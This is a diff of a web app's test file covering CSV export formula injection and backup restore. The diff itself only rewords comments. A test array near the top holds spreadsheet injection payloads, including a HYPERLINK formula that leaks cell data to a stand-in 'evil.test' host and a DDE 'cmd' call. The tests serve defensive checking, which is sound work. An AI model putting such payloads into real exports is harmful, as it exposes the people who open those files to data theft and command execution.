@@ -17,7 +17,7 @@ const { app, send, logged } = await createWholeSite()
 const admin = await createUser(app, 'admin')
 const { cookie } = admin
 
-/** Values a spreadsheet would run as a formula or read as the end of a cell. */
+/** Values that a spreadsheet would run as a formula or treat as the end of a cell. */
 const formulas = [
   '=HYPERLINK("https://evil.test?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -35,7 +35,7 @@ const formulas = [
   '＝1+1',
 ]
 
-/** Parses a file's cells like a spreadsheet (RFC 4180). */
+/** Parses a file's cells like a spreadsheet does (RFC 4180). */
 function cellsOf(csv: string): Array<string> {
   const cells = csv.replace(/^\u{FEFF}/u, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)
   return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
@@ -84,7 +84,7 @@ async function archiveOf(header: Entry): Promise<Uint8Array> {
 
 test.each([
   ['cut in half', whole.slice(0, whole.length / 2), 'not a complete backup'],
-  // This may cut between two parts, so that only the end is missing.
+  // The cut may be exactly between two parts. Then only the end is missing.
   ['cut in half and packed again', gzipSync(unpacked.subarray(0, unpacked.length / 2)), 'cut off'],
   ['without its last byte', whole.slice(0, -1), 'not a complete backup'],
   [
@@ -135,7 +135,7 @@ test('restores a complete backup and refuses unsafe names', async () => {
   await app.db.update(users).set({ name: 'Changed since' })
   const back = await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })
   expect(back.headers.get('location')).toBe('/auth')
-  // Restoring signs everyone out, so the next page shows the message.
+  // A restore signs out everyone, so the next page shows the message.
   expect(readFlash(back.headers.get('set-cookie') ?? '')?.title).toBe('Backup restored')
   expect(JSON.stringify(await app.db.select({ name: users.name }).from(users))).not.toContain('Changed since')
 })
